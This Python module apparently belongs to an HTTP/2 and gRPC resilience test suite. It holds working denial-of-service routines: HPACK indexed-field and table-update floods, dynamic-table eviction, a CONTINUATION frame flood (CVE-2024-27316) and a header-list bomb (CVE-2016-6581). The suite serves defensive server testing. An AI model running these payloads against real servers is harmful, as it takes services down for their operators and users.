"""HPACK and header blocks: fields, table size updates, CONTINUATION frames."""

from attack.connection import GRPC_LIVE, Http2Peer
from attack.registry import GRPC, HTTP2, Limits, attack
from attack.target import Target
from naiad.wire.http2 import frames as wire

_PATH = "/v2/health/live"
_BLOCK_BYTES = 120_000


def _path(peer: Http2Peer) -> str:
    return GRPC_LIVE if peer.is_grpc else _PATH


def _send_block(peer: Http2Peer, block: bytes) -> bool:
    flags = wire.FLAG_END_HEADERS | wire.FLAG_END_STREAM
    return peer.send(wire.frame(wire.HEADERS, flags, peer.new_id(), block))


@attack(HTTP2, GRPC, limits=Limits(cpu_s=1.0))
def indexed_fields(target: Target) -> None:
    """Requests of 1,800 indexed fields in 1.9 KB.

    The last bytes differ, so that no block is in the cache of decoded blocks.
    """
    rounds = target.rounds(1000)
    while (number := next(rounds, None)) is not None:
        with target.http2() as peer:
            plain = peer.fields(_path(peer))
            while number is not None:
                distinct = bytes((0x82 + number // 50 % 50, 0x82 + number % 50))
                if not _send_block(peer, plain + b"\x90" * 1800 + distinct):
                    break
                number = next(rounds, None)
            peer.wait_read(10.0)


@attack(HTTP2, GRPC, limits=Limits(cpu_s=1.0))
def table_size_updates(target: Target) -> None:
    """Header blocks of 120,000 dynamic table size updates."""
    for _ in target.rounds(100):
        with target.http2() as peer:
            _send_block(peer, b"\x20" * _BLOCK_BYTES + peer.fields(_path(peer)))
            peer.wait_read(10.0)


@attack(HTTP2, GRPC, limits=Limits(cpu_s=1.0))
def table_evictions(target: Target) -> None:
    """Literals that enter the dynamic table and throw out what is in it."""
    rounds = target.rounds(500)
    while (number := next(rounds, None)) is not None:
        with target.http2() as peer:
            while number is not None:
                inserts = b"".join(b"\x40\x02%c%c\x00" % (97 + index % 26, 97 + number % 26) for index in range(1000))
                if not _send_block(peer, peer.fields(_path(peer)) + inserts):
                    break
                number = next(rounds, None)
            peer.wait_read(10.0)


@attack(HTTP2, GRPC, limits=Limits(cpu_s=1.0))
def continuation_flood(target: Target) -> None:
    """A header block that goes on in empty CONTINUATION frames (CVE-2024-27316)."""
    for _ in target.rounds(50):
        with target.http2() as peer:
            peer.send(wire.frame(wire.HEADERS, 0, peer.new_id(), peer.fields(_path(peer))))
            peer.send(wire.frame(wire.CONTINUATION, 0, 1) * 20_000)
            peer.wait_read(5.0)


@attack(HTTP2, GRPC, limits=Limits(cpu_s=1.0))
def header_list_bomb(target: Target) -> None:
    """One large entry of the dynamic table, named thousands of times in each block (CVE-2016-6581)."""
    for _ in target.rounds(100):
        with target.http2() as peer:
            value = b"x" * 3900
            insert = b"\x40\x01a\x7f" + bytes(((len(value) - 127) & 127 | 128, (len(value) - 127) >> 7)) + value
            _send_block(peer, peer.fields(_path(peer)) + insert)
            _send_block(peer, peer.fields(_path(peer)) + b"\xbe" * 16_000)
            peer.wait_read(10.0)
